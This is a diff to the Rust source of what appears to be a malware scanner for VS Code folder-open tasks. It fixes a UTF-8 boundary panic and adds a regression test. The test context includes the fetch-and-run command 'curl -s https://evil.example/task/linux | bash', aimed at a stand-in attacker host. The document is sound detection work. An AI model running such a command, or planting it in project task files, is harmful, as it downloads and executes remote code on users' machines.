@@ -592,7 +592,7 @@ fn folder_open_task(path: &str, data: &[u8], out: &mut Vec<ScamFinding>) {
             .char_indices()
             .find(|&(j, c)| c == '"' && !body[..j].ends_with('\\'))
             .map(|(j, _)| j)
-            .unwrap_or(body.len().min(400));
+            .unwrap_or(body.floor_char_boundary(400));
         cmds.push(body[..end].to_string());
     }
     let Some(cmd) = cmds.iter().find(|c| {
@@ -1115,6 +1115,12 @@ default = ["serde"]
             .any(|f| f.check == "scam.malware" && f.severity == Severity::Critical));
         assert!(task("npm run watch", "folderOpen").is_empty());
         assert!(task("curl -s https://evil.example/task/linux | bash", "default").is_empty());
+        // Regression: an unterminated command with a multi-byte character at byte 400.
+        let text = format!(
+            "{{\"runOn\": \"folderOpen\", \"command\": \"{}账户 and more",
+            "a".repeat(399)
+        );
+        let _ = scanned(&[(".vscode/tasks.json", &text)]);
     }
 
     #[test]
